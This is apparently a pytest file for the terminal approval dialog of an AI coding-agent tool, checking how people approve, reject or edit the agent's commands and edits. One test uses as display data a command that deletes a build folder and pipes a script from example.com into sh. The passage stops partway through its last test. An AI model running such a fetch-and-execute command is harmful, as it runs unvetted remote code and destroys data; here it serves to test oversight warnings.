import asyncio

import pytest
from textual import events
from textual._context import visible_screen_stack
from textual.geometry import Region, Size
from textual.strip import Strip
from textual.widgets import Input, TextArea

from quorum.application.review.voting import VoteFeed
from quorum.domain.calls.execution import Seal
from quorum.domain.events.event import TextDelta
from quorum.domain.events.masking import SecretMask
from quorum.domain.replacing import replace
from quorum.domain.review.mode import Mode
from quorum.domain.review.questions import (
    Approve,
    ApproveEdits,
    ApproveRest,
    Edit,
    Reject,
    RejectAndInterrupt,
    RulePreview,
)
from quorum.domain.settings import TuiTable
from quorum.tui.screens.review import card
from quorum.tui.screens.review.choice_bar import ChoiceBar
from quorum.tui.screens.review.widgets import ScrollableText
from tests.support.app_stage import Clock, on_stage
from tests.support.fake_agent import FakeAgent, a_command, a_packet, a_request, an_edit, review, say
from tests.support.review_contexts import THREE, a_ballot, a_review_context, voted

DIFF = "--- a/x.py\n+++ b/x.py\n@@ -1,2 +1,2 @@\n one\n-two\n+TWO\n"


@pytest.fixture(autouse=True)
def _own_state(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))


MAKE = a_command("make all")


@pytest.mark.long(after=5)
@pytest.mark.parametrize(
    ("keys", "answer"),
    [
        (["y"], Approve(MAKE.digest)),
        (["n"], Reject()),
        (["enter"], Reject()),
        (["escape"], RejectAndInterrupt()),
        (["left", "enter"], Approve(MAKE.digest)),
        (["tab", "shift+tab", "enter"], Reject()),
        (["r", "enter"], Reject()),
        (["r", *"too risky", "enter"], Reject("too risky")),
        (["r", *"x", "escape", "n"], Reject()),
        (["e", "end", *" -k", "ctrl+s"], Edit({"command": "make all -k"})),
        (["e", *"x", "escape", "n"], Reject()),
        (["1"], Approve(MAKE.digest)),
        (["2"], Reject()),
        (["3", *"2 much", "enter"], Reject("2 much")),
        (["9", "n"], Reject()),
    ],
    ids=lambda value: "+".join(value) if isinstance(value, list) else "",
)
async def test_each_key_gives_its_answer(tmp_path, keys, answer):
    async with on_stage(tmp_path, review(a_request(MAKE))) as stage:
        await stage.send("go")
        await stage.asked()
        for key in keys:
            await stage.pilot.press(key)
        await stage.until(lambda: stage.agent.answers)
        await stage.unasked()

        assert stage.agent.answers == [answer]


@pytest.mark.long
async def test_a_number_that_does_not_stand_beside_its_choice_takes_none(tmp_path):
    request = replace(a_request(an_edit(DIFF)), allowed_by_accept_edits=True)
    async with on_stage(tmp_path, review(request), size=(40, 12)) as stage:
        await stage.send("go")
        await stage.asked()
        assert "1/y" not in stage.text()
        await stage.pilot.press("5")
        await stage.pilot.press("1")
        await stage.pilot.press("n", "n")
        await stage.unasked()

        assert stage.agent.answers == [Reject()]


@pytest.mark.long
async def test_the_next_prompt_works_after_escape_in_a_dialog(tmp_path):
    async with on_stage(tmp_path, review(a_request(MAKE)), say("second answer")) as stage:
        await stage.send("first")
        await stage.asked()
        await stage.pilot.press("escape")
        await stage.until(lambda: stage.agent.reports)
        await stage.send("second")
        await stage.shows("second answer")


@pytest.mark.long
async def test_ctrl_c_in_a_dialog_interrupts_the_turn_and_takes_the_dialog_down(tmp_path):
    async with on_stage(tmp_path, review(a_request(MAKE)), say("second answer")) as stage:
        await stage.send("first")
        await stage.asked()
        await stage.pilot.press("ctrl+c")
        await stage.until(lambda: stage.agent.reports)
        await stage.unasked()
        await stage.send("second")
        await stage.shows("second answer")

        assert stage.agent.answers == []


@pytest.mark.long
async def test_a_question_whose_call_is_cancelled_leaves_the_screen_even_under_the_help(tmp_path):
    cancel = asyncio.Event()

    async def scene(agent: FakeAgent) -> None:
        question = asyncio.create_task(agent.ask(a_request(MAKE)))
        await cancel.wait()
        question.cancel()
        await asyncio.wait({question})

    async with on_stage(tmp_path, scene) as stage:
        await stage.send("go")
        await stage.asked()
        await stage.pilot.press("f1")
        await stage.shows("In a review")
        cancel.set()
        await stage.unasked()
        await stage.until(lambda: stage.agent.reports)

        assert stage.agent.answers == []


@pytest.mark.long
async def test_questions_asked_at_once_come_one_at_a_time_in_their_order(tmp_path):
    first, second = a_command("one", index=0), a_command("two", index=1)

    async def scene(agent: FakeAgent) -> None:
        await asyncio.gather(*(agent.ask(a_request(p, batch_size=2)) for p in (first, second)))

    async with on_stage(tmp_path, scene) as stage:
        await stage.send("go")
        await stage.shows("1 of 2")
        assert len(stage.app.screen_stack) == 2
        await stage.asked()
        await stage.pilot.press("y")
        await stage.shows("2 of 2")
        await stage.asked()
        await stage.pilot.press("y")
        await stage.until(lambda: stage.agent.reports)

        assert stage.agent.answers == [Approve(first.digest), Approve(second.digest)]


# -- the keyboard guard -------------------------------------------------------------------------------------


@pytest.mark.long
async def test_keys_at_thirty_a_second_never_answer_and_rest_makes_the_dialog_listen(tmp_path):
    clock = Clock()
    clock.now = 100.0
    async with on_stage(tmp_path, review(a_request(MAKE)), clock=clock) as stage:
        await stage.send("go")
        await stage.asked()
        arrived = 100.0
        for place in range(90):
            arrived += 1 / 30
            await stage.press_at("yAenr"[place % 5], arrived)
        assert stage.agent.answers == []
        await stage.press_at("y", arrived + 0.5)
        await stage.until(lambda: stage.agent.answers)

        assert stage.agent.answers == [Approve(MAKE.digest)]


@pytest.mark.long(after=3)
@pytest.mark.parametrize("key", ["y", "n", "enter", "r", "e", "d", "down", "tab", "pageup", "ctrl+o"])
async def test_every_key_is_dead_just_after_the_dialog_appeared(tmp_path, key):
    clock = Clock()
    clock.now = 100.0
    async with on_stage(tmp_path, review(a_request(MAKE)), clock=clock) as stage:
        await stage.send("go")
        dialog = await stage.asked()
        focused = (dialog.focused, dialog.query_one(ChoiceBar).marked)
        await stage.press_at(key, 100.399)

        assert stage.agent.answers == []
        assert (dialog.focused, dialog.query_one(ChoiceBar).marked) == focused


@pytest.mark.long(after=1)
@pytest.mark.parametrize("key", ["escape", "ctrl+c"])
async def test_escape_and_ctrl_c_act_from_the_first_moment(tmp_path, key):
    clock = Clock()
    clock.now = 100.0
    async with on_stage(tmp_path, review(a_request(MAKE)), clock=clock) as stage:
        await stage.send("go")
        await stage.asked()
        await stage.press_at(key, 100.0)
        await stage.until(lambda: stage.agent.reports)

        assert stage.agent.reports[0].status.value == "interrupted"


@pytest.mark.long
async def test_a_stale_approval_is_asked_again_with_the_keys_dead_again(tmp_path):
    clock = Clock()
    clock.now = 100.0
    changed = a_command("make more")
    scene = review(a_request(MAKE), a_request(changed, stale=True))
    async with on_stage(tmp_path, scene, clock=clock) as stage:
        await stage.send("go")
        await stage.asked()
        clock.now = 101.0
        await stage.press_at("y", 101.0)
        await stage.shows("asked again")
        await stage.asked()
        await stage.press_at("y", 101.1)
        assert len(stage.agent.answers) == 1
        await stage.shows('changed since you approved: command, which was "make all"')
        await stage.press_at("y", 101.6)
        await stage.until(lambda: stage.agent.reports)

        assert stage.agent.answers == [Approve(MAKE.digest), Approve(changed.digest)]


@pytest.mark.long
async def test_keys_typed_while_the_dialog_pops_up_answer_nothing(tmp_path):
    ask = asyncio.Event()

    async def scene(agent: FakeAgent) -> None:
        await ask.wait()
        await agent.ask(a_request(MAKE))

    clock = Clock()
    clock.now = 1e12
    async with on_stage(tmp_path, scene, clock=clock) as stage:
        await stage.send("go")
        ask.set()
        for key in "yes y y":
            stage.hit("space" if key == " " else key)
        await stage.asked()
        for key in "yyy":
            stage.hit(key)
        await stage.pilot.pause()

        assert stage.agent.answers == []


@pytest.mark.long
async def test_a_paste_into_a_dialog_answers_nothing_and_is_in_the_prompt(tmp_path):
    async with on_stage(tmp_path, review(a_request(MAKE))) as stage:
        await stage.send("go")
        await stage.asked()
        stage.app.post_message(events.Paste("y\ny\n"))
        await stage.pilot.pause()

        assert stage.agent.answers == []
        assert stage.prompt.text == "y\ny\n"


@pytest.mark.long
async def test_a_click_is_guarded_like_a_key(tmp_path):
    clock = Clock()
    clock.now = 1e12
    async with on_stage(tmp_path, review(a_request(MAKE)), clock=clock) as stage:
        await stage.send("go")
        dialog = await stage.asked()
        await stage.pilot.click(ChoiceBar, offset=(dialog.query_one(ChoiceBar).find_column("approve") + 2, 0))
        await stage.pilot.pause()

        assert stage.agent.answers == []


@pytest.mark.long
async def test_a_click_on_a_choice_takes_it(tmp_path):
    async with on_stage(tmp_path, review(a_request(MAKE))) as stage:
        await stage.send("go")
        dialog = await stage.asked()
        await stage.pilot.click(ChoiceBar, offset=(dialog.query_one(ChoiceBar).find_column("approve") + 2, 0))
        await stage.until(lambda: stage.agent.answers)

        assert stage.agent.answers == [Approve(MAKE.digest)]


# -- approving the rest -------------------------------------------------------------------------------------


@pytest.mark.long
async def test_the_rest_is_listed_with_titles_and_contents_before_it_is_approved(tmp_path):
    edit, test = an_edit(DIFF, index=0), a_command("pytest -q", index=1)
    async with on_stage(tmp_path, review(a_request(edit, test)), size=(100, 40)) as stage:
        await stage.send("go")
        await stage.asked()
        await stage.pilot.press("A")
        await stage.shows("These 2 run as you see them here")
        shown = stage.text()
        assert stage.agent.answers == []
        await stage.pilot.press("A")
        await stage.until(lambda: stage.agent.answers)

        assert stage.agent.answers == [ApproveRest((edit.digest, test.digest))]
    assert "1 of 2   Edit " in shown
    assert "2 of 2   Run a command" in shown
    assert "$ pytest -q" in shown


@pytest.mark.long
async def test_the_list_of_the_rest_makes_the_keys_dead_again(tmp_path):
    clock = Clock()
    clock.now = 100.0
    request = a_request(a_command("one", index=0), a_command("two", index=1))
    async with on_stage(tmp_path, review(request), clock=clock) as stage:
        await stage.send("go")
        await stage.asked()
        clock.now = 101.0
        await stage.press_at("A", 101.0)
        await stage.shows("These 2 run")
        await stage.press_at("A", 101.05)

        assert stage.agent.answers == []


@pytest.mark.long
async def test_the_careful_choice_of_the_list_goes_back(tmp_path):
    request = a_request(a_command("one", index=0), a_command("two", index=1))
    async with on_stage(tmp_path, review(request)) as stage:
        await stage.send("go")
        await stage.asked()
        await stage.pilot.press("A")
        await stage.shows("These 2 run")
        await stage.pilot.press("y", "enter")
        await stage.shows("[2/n no]")

        assert stage.agent.answers == []


@pytest.mark.long
@pytest.mark.parametrize("size", [(60, 20), (40, 16)])
async def test_in_a_narrow_window_the_answer_that_approves_is_in_sight(tmp_path, size):
    request = a_request(MAKE, a_command("make two"), a_command("make three"))
    async with on_stage(tmp_path, review(request), size=size) as stage:
        await stage.send("go")
        await stage.asked()
        await stage.shows("[n no]")

        assert "y yes" in stage.text()
        await stage.pilot.press("right")
        await stage.shows("[r because…]")


@pytest.mark.long
async def test_without_following_calls_there_is_no_rest_to_approve(tmp_path):
    async with on_stage(tmp_path, review(a_request(MAKE))) as stage:
        await stage.send("go")
        await stage.asked()
        await stage.pilot.press("A")

        assert "A these" not in stage.text()
        assert stage.agent.answers == []


# -- editing ------------------------------------------------------------------------------------------------


@pytest.mark.long
async def test_arguments_are_edited_as_json_and_what_is_wrong_is_named(tmp_path):
    packet = a_packet("write_file", {"path": "x"}, Seal(cwd="/w", diff=DIFF))
    async with on_stage(tmp_path, review(a_request(packet))) as stage:
        await stage.send("go")
        dialog = await stage.asked()
        await stage.pilot.press("e")
        editor = dialog.query_one("#editor", TextArea)
        editor.load_text('{\n  "path": \n}')
        await stage.pilot.press("ctrl+s")
        await stage.shows("not JSON at line 3, column 1")
        editor.load_text("[1]")
        await stage.pilot.press("ctrl+s")
        await stage.shows("must be one JSON object")
        editor.load_text('{"path": "y"}')
        await stage.pilot.press("ctrl+s")
        await stage.until(lambda: stage.agent.answers)

        assert stage.agent.answers == [Edit({"path": "y"})]


@pytest.mark.long
async def test_letters_typed_into_a_reason_or_an_edit_are_no_answers(tmp_path):
    async with on_stage(tmp_path, review(a_request(MAKE))) as stage:
        await stage.send("go")
        dialog = await stage.asked()
        await stage.pilot.press("r", *"yAned")
        assert dialog.query_one("#reason", Input).value == "yAned"
        await stage.pilot.press("escape", "e", *"yAn")
        assert dialog.query_one("#editor", TextArea).text == "yAnmake all"

        assert stage.agent.answers == []


# -- the screen behind --------------------------------------------------------------------------------------


@pytest.mark.long
async def test_the_transcript_stays_in_sight_and_scrolls_behind_the_dialog(tmp_path):
    paragraphs = say("\n\n".join(f"paragraph {n}" for n in range(100)))
    async with on_stage(tmp_path, paragraphs, review(a_request(MAKE)), size=(80, 24)) as stage:
        await stage.send("talk")
        await stage.shows("paragraph 99")
        await stage.send("go")
        await stage.asked()
        await stage.shows("› go")
        await stage.pilot.press("ctrl+home")
        await stage.shows("paragraph 0")

        assert "answer needed" in stage.text()


@pytest.mark.long
async def test_a_half_typed_prompt_takes_what_answers_nothing_and_has_an_answer_pressed_twice(tmp_path):
    ask = asyncio.Event()

    async def scene(agent: FakeAgent) -> None:
        await ask.wait()
        await agent.ask(a_request(MAKE))

    async with on_stage(tmp_path, scene) as stage:
        await stage.send("go")
        await stage.pilot.press(*"half")
        ask.set()
        await stage.asked()
        await stage.pilot.press("x", "z", "n")
        await stage.shows("your prompt holds text: press n again for this question")
        assert stage.agent.answers == []
        await stage.pilot.press("n")
        await stage.unasked()
        await stage.pilot.press("!")

        assert stage.prompt.text == "halfxz!"


@pytest.mark.long
async def test_the_mode_and_the_palette_are_out_of_reach_of_a_dialog(tmp_path):
    async with on_stage(tmp_path, review(a_request(MAKE))) as stage:
        await stage.send("go")
        dialog = await stage.asked()
        await stage.pilot.press("ctrl+p", "shift+tab")

        assert stage.app.screen is dialog
        assert stage.agent.mode is Mode.ASK


@pytest.mark.long
async def test_the_dialog_follows_a_storm_of_resizes(tmp_path):
    long = a_command("\n".join(f"echo {n}" for n in range(100)))
    async with on_stage(tmp_path, review(a_request(long)), size=(80, 24)) as stage:
        await stage.send("go")
        await stage.asked()
        for width, height in [(160, 50), (50, 14), (120, 40), (80, 24)] * 3:
            await stage.pilot.resize_terminal(width, height)
        await stage.shows("more lines")
        await stage.shows("y yes")
        lines = stage.text().rstrip("\n").split("\n")

    assert len(lines) == 24
    assert max(len(line) for line in lines) <= 80


@pytest.mark.long
async def test_what_is_out_of_sight_is_counted_and_can_be_scrolled_to(tmp_path):
    long = a_command("\n".join(f"echo {n}" for n in range(100)))
    async with on_stage(tmp_path, review(a_request(long)), size=(80, 24)) as stage:
        await stage.send("go")
        await stage.asked()
        shown = sum(f"echo {n} " in stage.text() for n in range(100))
        await stage.shows(f"↓ {100 - shown} more lines")
        for _ in range(12):
            await stage.pilot.press("shift+down")
        await stage.shows("echo 99")
        await stage.shows(f"↑ {100 - shown} above")

        assert "more lines" not in stage.text()


@pytest.mark.long
async def test_the_details_are_a_key_away_and_nothing_is_approved_there(tmp_path):
    async with on_stage(tmp_path, review(a_request(MAKE))) as stage:
        await stage.send("go")
        await stage.asked()
        assert MAKE.digest not in stage.text()
        await stage.pilot.press("d")
        await stage.shows(MAKE.digest)
        await stage.shows("asks because  high risk, and the mode is ask")
        await stage.pilot.press("y")
        assert stage.agent.answers == []
        await stage.pilot.press("d")
        await stage.shows("y yes")


@pytest.mark.long
async def test_what_happens_while_a_dialog_is_open_is_shown_behind_it(tmp_path):
    async with on_stage(tmp_path, review(a_request(MAKE))) as stage:
        await stage.send("go")
        await stage.asked()
        stage.agent.tell(TextDelta(text="told while asking"))
        await stage.shows("told while asking")
        await stage.pilot.press("n")
        await stage.until(lambda: stage.agent.reports)


@pytest.mark.long
async def test_the_end_of_the_transcript_stays_in_sight_when_dialogs_come_and_go(tmp_path):
    last = asyncio.Event()

    async def scene(agent: FakeAgent) -> None:
        for index in range(3):
            await agent.ask(a_request(a_command(f"command {index}\n" * 3 * (index + 1))))
            agent.tell(TextDelta(text=f"\n\nafter {index}"))
        await last.wait()
        agent.tell(TextDelta(text="\n\nthe very end"))

    paragraphs = say("\n\n".join(f"paragraph {n}" for n in range(50)))
    async with on_stage(tmp_path, paragraphs, scene, size=(80, 24)) as stage:
        await stage.send("talk")
        await stage.shows("paragraph 49")
        await stage.send("go")
        for index in range(3):
            await stage.shows(f"$ command {index}")
            await stage.asked()
            await stage.pilot.press("n")
        await stage.shows("after 2")
        await stage.unasked()
        last.set()
        await stage.shows("the very end")

        assert "↓ new" not in stage.text()


@pytest.mark.long
async def test_a_dialog_does_not_take_the_person_away_from_where_they_read(tmp_path):
    paragraphs = say("\n\n".join(f"paragraph {n}" for n in range(50)))
    async with on_stage(tmp_path, paragraphs, review(a_request(MAKE)), size=(80, 24)) as stage:
        await stage.send("talk")
        await stage.shows("paragraph 49")
        await stage.send("go")
        await stage.asked()
        await stage.pilot.press("ctrl+home")
        await stage.shows("paragraph 0")
        await stage.pilot.press("n")
        await stage.unasked()
        await stage.until(lambda: stage.agent.reports)
        await stage.pilot.pause()

        assert "paragraph 0" in stage.text()


@pytest.mark.long
@pytest.mark.parametrize("size", [(60, 15), (60, 12), (80, 24)])
async def test_the_status_bar_is_in_sight_below_a_dialog_that_takes_the_whole_screen(tmp_path, size):
    long = a_command("make one two three; " * 80)
    async with on_stage(tmp_path, review(a_request(long)), size=size) as stage:
        await stage.send("go")
        await stage.asked()
        await stage.shows("more lines")
        await stage.until(lambda: "answer needed" in stage.text().splitlines()[-1])


@pytest.mark.long
async def test_where_the_dangers_do_not_fit_the_first_is_in_sight_beside_the_command(tmp_path):
    many = ("it deletes " + "build/output/folder " * 6, "it downloads a script and runs it", "it is no text")
    long = a_command("rm -rf build && curl https://example.com/x.sh | sh " * 6)
    request = replace(a_request(long), reasons=many)
    votes = a_review_context(voted(*(a_ballot(each) for each in THREE)))

    async def scene(agent: FakeAgent) -> object:
        return await agent.ask(request, votes)

    async with on_stage(tmp_path, scene, size=(60, 15)) as stage:
        await stage.send("go")
        await stage.asked()
        await stage.shows("$ rm -rf build && curl")
        await stage.shows("! it deletes build/output")
        await stage.shows(" · 2 more")
        await stage.shows("votes  3 for")


@pytest.mark.long
async def test_every_choice_about_this_call_keeps_its_name_at_60_columns(tmp_path):
    request = replace(
        a_request(MAKE, a_command("make two"), a_command("make three")), proposals=("run_command(make *)",)
    )
    async with on_stage(tmp_path, review(request), size=(60, 20)) as stage:
        await stage.send("go")
        await stage.asked()
        await stage.shows(" y yes [n no] r because…  e change    a  A ")
        await stage.pilot.press("A")
        await stage.shows("[esc back] A yes to these 3")


@pytest.mark.long
async def test_a_gap_parts_what_is_about_this_call_from_what_reaches_further(tmp_path):
    request = replace(
        a_request(MAKE, a_command("make two"), a_command("more")), proposals=("run_command(make *)",)
    )
    async with on_stage(tmp_path, review(request), size=(100, 20)) as stage:
        await stage.send("go")
        await stage.asked()
        await stage.shows(
            " 1/y yes [2/n no] 3/r no, because…  4/e change it    5/a always…  7/A yes to these 3"
        )


@pytest.mark.long(after=1)
@pytest.mark.parametrize("packet", [an_edit(DIFF), MAKE], ids=["an edit", "a command"])
async def test_a_number_means_the_same_in_every_review(tmp_path, packet):
    request = replace(a_request(packet), allowed_by_accept_edits=packet is not MAKE, proposals=("call(*)",))
    async with on_stage(tmp_path, review(request), size=(100, 20)) as stage:
        await stage.send("go")
        await stage.asked()
        await stage.pilot.press("5")
        await stage.shows("always let run")


async def test_the_careful_choice_is_still_marked_after_the_window_was_too_small(tmp_path):
    async with on_stage(tmp_path, review(a_request(MAKE)), size=(100, 20)) as stage:
        await stage.send("go")
        await stage.asked()
        await stage.pilot.resize_terminal(30, 6)
        await stage.shows("too small a window")
        await stage.pilot.resize_terminal(100, 20)
        await stage.shows("[2/n no]")
        await stage.pilot.press("enter")
        await stage.until(lambda: stage.agent.answers)

        assert stage.agent.answers == [Reject()]


async def test_what_another_program_will_run_cannot_be_changed_here(tmp_path):
    async with on_stage(
        tmp_path, review(replace(a_request(MAKE), can_be_edited=False)), size=(100, 20)
    ) as stage:
        await stage.send("go")
        await stage.asked()
        assert "change" not in stage.text()
        await stage.pilot.press("e")
        assert "ask again with this" not in stage.text()


# -- all edits from here on ---------------------------------------------------------------------------------

EDIT = replace(a_request(an_edit(DIFF)), allowed_by_accept_edits=True)


@pytest.mark.long(after=1)
@pytest.mark.parametrize("size", [(100, 30), (80, 24), (60, 15)])
async def test_shift_tab_approves_an_edit_and_all_that_follow_and_what_that_covers_is_shown(tmp_path, size):
    async with on_stage(tmp_path, review(EDIT), size=size) as stage:
        await stage.send("go")
        await stage.asked()
        await stage.shows("⇧⇥ yes to all edits" if size[0] > 60 else "⇧⇥ all edits")
        await stage.shows("all edits: in")
        await stage.pilot.press("shift+tab")
        await stage.until(lambda: stage.agent.answers)

        assert stage.agent.answers == [ApproveEdits(EDIT.packet.digest)]


@pytest.mark.long(after=1)
@pytest.mark.parametrize(
    "request_",
    [a_request(MAKE), a_request(an_edit(DIFF)), replace(EDIT, reasons=("src/x is a protected path",))],
    ids=["a command", "an edit outside", "a protected path"],
)
async def test_shift_tab_approves_nothing_that_the_mode_would_not_let_run(tmp_path, request_):
    async with on_stage(tmp_path, review(request_)) as stage:
        await stage.send("go")
        await stage.asked()
        assert "all edits" not in stage.text()
        await stage.pilot.press("shift+tab")
        await stage.shows("[1/y yes]")

        assert stage.agent.answers == []


@pytest.mark.long
async def test_shift_tab_on_an_edit_that_was_not_seen_to_its_end_says_so_first(tmp_path):
    diff = "--- a/x\n+++ b/x\n@@ -0,0 +1,99 @@\n" + "".join(f"+line {n}\n" for n in range(99))
    async with on_stage(tmp_path, review(replace(EDIT, packet=an_edit(diff)))) as stage:
        await stage.send("go")
        await stage.asked()
        await stage.pilot.press("shift+tab")
        await stage.shows("shift+tab again approves all")

        assert stage.agent.answers == []


@pytest.mark.long(after=1)
@pytest.mark.parametrize(
    ("request_", "answer"),
    [
        (EDIT, Approve(EDIT.packet.digest)),
        (a_request(MAKE), Reject()),
        (replace(EDIT, reasons=("src/x is a protected path",)), Reject()),
    ],
    ids=["an edit", "a command", "a protected path"],
)
async def test_by_a_setting_enter_approves_an_edit_inside_the_workspace_and_nothing_else(
    tmp_path, request_, answer
):
    async with on_stage(tmp_path, review(request_)) as stage:
        stage.app.settings = TuiTable(mark_approve_for_edits=True)
        await stage.send("go")
        await stage.asked()
        await stage.pilot.press("enter")
        await stage.until(lambda: stage.agent.answers)

        assert stage.agent.answers == [answer]


# -- from one request to the next ---------------------------------------------------------------------------


@pytest.mark.long
async def test_the_next_request_of_a_batch_takes_the_place_of_the_answered_one(tmp_path):
    packets = [an_edit(DIFF, index=0), a_command("make all", index=1), an_edit(DIFF, index=2)]
    async with on_stage(tmp_path, review(*(a_request(packet, batch_size=3) for packet in packets))) as stage:
        await stage.send("go")
        dialog = await stage.asked()
        for place, packet in enumerate(packets, 1):
            await stage.shows(f"{place} of 3")
            await stage.until(lambda packet=packet: dialog.is_awake and dialog.request.packet == packet)
            assert stage.app.screen is dialog
            await stage.pilot.press("y")
            await stage.until(lambda place=place: len(stage.agent.answers) == place)
        await stage.unasked()

        assert stage.agent.answers == [Approve(packet.digest) for packet in packets]


@pytest.mark.long
async def test_a_key_for_the_answered_request_does_not_answer_the_next(tmp_path):
    clock = Clock()
    clock.now = 100.0
    packets = [a_command("one", index=0), a_command("two", index=1)]
    async with on_stage(tmp_path, review(*(a_request(p, batch_size=2) for p in packets)), clock=clock) as stage:
        await stage.send("go")
        dialog = await stage.asked()
        clock.now = 101.0
        for key in "nnyn":
            event = events.Key(key, key)
            event.time = 101.0
            stage.app.post_message(event)
        await stage.until(lambda: dialog.is_awake and dialog.request.packet == packets[1])
        await stage.press_at("y", 101.3)

        assert stage.agent.answers == [Reject()]
        assert stage.prompt.text == ""


@pytest.mark.long
async def test_an_answered_dialog_goes_away_when_nothing_more_is_asked(tmp_path):
    async with on_stage(tmp_path, review(a_request(a_command("one"), batch_size=2))) as stage:
        await stage.send("go")
        dialog = await stage.asked()
        await stage.pilot.press("y")
        await stage.until(lambda: stage.agent.answers)
        await stage.until(lambda: dialog not in stage.app.screen_stack)
        await stage.pilot.press("!")

        assert stage.prompt.text == "!"


@pytest.mark.long
@pytest.mark.parametrize(("keys", "text"), [("fix", "fix"), ("yy", "")])
async def test_text_typed_at_once_after_an_answer_reaches_the_prompt_and_review_keys_do_not(
    tmp_path, keys, text
):
    more = asyncio.Event()

    async def scene(agent: FakeAgent) -> None:
        await agent.ask(a_request(a_command("one"), batch_size=2))
        await more.wait()

    async with on_stage(tmp_path, scene) as stage:
        await stage.send("go")
        dialog = await stage.asked()
        stage.hit("n")
        await stage.until(lambda: dialog.is_waiting)
        for key in keys:
            stage.hit(key)
        await stage.until(lambda: stage.app.screen is stage.app.chat)
        await stage.pilot.pause()

        assert stage.prompt.text == text
        more.set()


@pytest.mark.long
async def test_escape_and_a_paste_after_an_answer_are_for_the_chat(tmp_path):
    async def scene(agent: FakeAgent) -> None:
        await agent.ask(a_request(a_command("one"), batch_size=2))
        await asyncio.Event().wait()

    async with on_stage(tmp_path, scene) as stage:
        await stage.send("go")
        dialog = await stage.asked()
        stage.hit("n")
        await stage.until(lambda: dialog.is_waiting)
        stage.app.post_message(events.Paste("pasted"))
        await stage.until(lambda: stage.prompt.text == "pasted")
        stage.hit("escape")
        await stage.until(lambda: stage.agent.reports)

        assert stage.agent.reports[0].status.value == "interrupted"


@pytest.mark.long
async def test_an_interrupt_while_the_next_request_is_shown_takes_the_dialog_down(tmp_path):
    packets = [a_command("one", index=0), a_command("two", index=1)]
    async with on_stage(tmp_path, review(*(a_request(p, batch_size=2) for p in packets))) as stage:
        await stage.send("go")
        dialog = await stage.asked()
        await stage.pilot.press("y")
        await stage.until(lambda: dialog.is_awake and dialog.request.packet == packets[1])
        await stage.pilot.press("ctrl+c")
        await stage.until(lambda: stage.agent.reports)
        await stage.until(lambda: dialog not in stage.app.screen_stack)

        assert stage.agent.answers == [Approve(packets[0].digest)]


@pytest.mark.long
async def test_a_dialog_that_the_next_request_reached_in_time_is_not_closed_by_a_late_timer(tmp_path):
    packets = [a_command("one", index=0), a_command("two", index=1)]
    async with on_stage(tmp_path, review(*(a_request(p, batch_size=2) for p in packets))) as stage:
        await stage.send("go")
        dialog = await stage.asked()
        await stage.pilot.press("y")
        await stage.until(lambda: dialog.request.packet == packets[1])
        dialog._stop_waiting()
        await stage.until(lambda: dialog.is_awake)
        await stage.pilot.press("y")
        await stage.until(lambda: len(stage.agent.answers) == 2)


@pytest.mark.long
async def test_a_key_of_the_app_after_an_answer_does_what_it_does_in_the_chat(tmp_path):
    async def scene(agent: FakeAgent) -> None:
        await agent.ask(a_request(a_command("one"), batch_size=2))
        await asyncio.Event().wait()

    async with on_stage(tmp_path, scene) as stage:
        await stage.send("go")
        dialog = await stage.asked()
        stage.hit("n")
        await stage.until(lambda: dialog.is_waiting)
        stage.hit("ctrl+p")

        await stage.shows("Search for commands")


@pytest.mark.long
@pytest.mark.parametrize(
    "keys", [["r", *"no", "enter"], ["e", "ctrl+s"], ["a", "enter"]], ids=["reason", "edit", "rule"]
)
async def test_after_a_form_was_used_the_next_request_takes_its_place_too(tmp_path, keys):
    packets = [a_command("one", index=0), a_command("two", index=1)]
    first, second = (replace(a_request(p, batch_size=2), proposals=("run_command(one)",)) for p in packets)
    context = a_review_context(preview=lambda rule: RulePreview(covers_this=True))

    async def scene(agent: FakeAgent) -> None:
        for request in (first, second, second):
            await agent.ask(request, context)

    async with on_stage(tmp_path, scene) as stage:
        await stage.send("go")
        dialog = await stage.asked()
        for key in keys:
            await stage.pilot.press(key)
        await stage.until(lambda: dialog.is_awake and dialog.request is second)
        await stage.shows("n no")
        await stage.pilot.pause()

        assert stage.app.screen is dialog
        assert not any(form.display for form in dialog.query("#reason, #editor, #rule_form"))
        await stage.pilot.press("r")
        await stage.until(lambda: dialog.query_one("#reason", Input).has_focus)
        assert dialog.query_one("#reason", Input).value == ""
        await stage.pilot.press(*"why", "enter")
        await stage.until(lambda: len(stage.agent.answers) == 2)
        assert stage.agent.answers[1] == Reject("why")


@pytest.mark.long
async def test_a_dialog_is_opened_again_for_the_next_batch_and_draws_nothing_of_the_former_request(
    tmp_path, monkeypatch
):
    drawn: list[str] = []

    class Spy(ScrollableText):
        def render_line(self, y: int) -> Strip:
            strip = super().render_line(y)
            drawn.append(strip.text)
            return strip

    monkeypatch.setattr(card, "ScrollableText", Spy)
    go_on = asyncio.Event()

    async def scene(agent: FakeAgent) -> None:
        await agent.ask(a_request(a_command("the_former")))
        await go_on.wait()
        await agent.ask(a_request(a_command("the_next")))

    async with on_stage(tmp_path, scene) as stage:
        await stage.send("go")
        dialog = await stage.asked()
        await stage.pilot.press("n")
        await stage.until(lambda: stage.app.screen is stage.app.chat)
        await stage.pilot.pause()
        assert any("the_former" in line for line in drawn)
        drawn.clear()
        go_on.set()
        await stage.until(lambda: stage.app.screen is dialog)
        assert not dialog.admits(events.Key("y", "y"))
        assert await stage.asked() is dialog

        assert any("the_next" in line for line in drawn)
        assert not any("the_former" in line for line in drawn)
        await stage.pilot.press("y")
        await stage.unasked()
        assert len(stage.agent.answers) == 2


@pytest.mark.long(after=1)
@pytest.mark.parametrize("packet", [MAKE, an_edit(DIFF)], ids=["a command", "a change"])
async def test_at_60_by_15_with_three_reviewers_what_would_run_is_in_sight_and_every_key_is_named(
    tmp_path, packet
):
    request = a_request(packet, a_command("ls", index=1), batch_size=2)

    async def scene(agent: FakeAgent) -> None:
        await agent.ask(request, a_review_context(VoteFeed(THREE)))

    async with on_stage(tmp_path, scene, size=(60, 15)) as stage:
        await stage.send("go")
        await stage.asked()
        stage.dialog.show_awake()
        await stage.pilot.pause()

        text = stage.text()
        assert "make all" in text or ("two" in text and "TWO" in text)
        bar = stage.dialog.query_one(ChoiceBar)
        row = text.split("\n")[bar.region.y]
        assert all(f" {key} " in row.replace("[", " ") for key in "ynreA")
        assert "d details" in text


@pytest.mark.long
async def test_lines_of_the_screen_behind_are_as_wide_as_the_dialog_whatever_size_that_screen_has(tmp_path):
    async with on_stage(tmp_path, review(a_request(MAKE)), size=(80, 24)) as stage:
        await stage.send("go")
        await stage.asked()
        chat = stage.app.chat
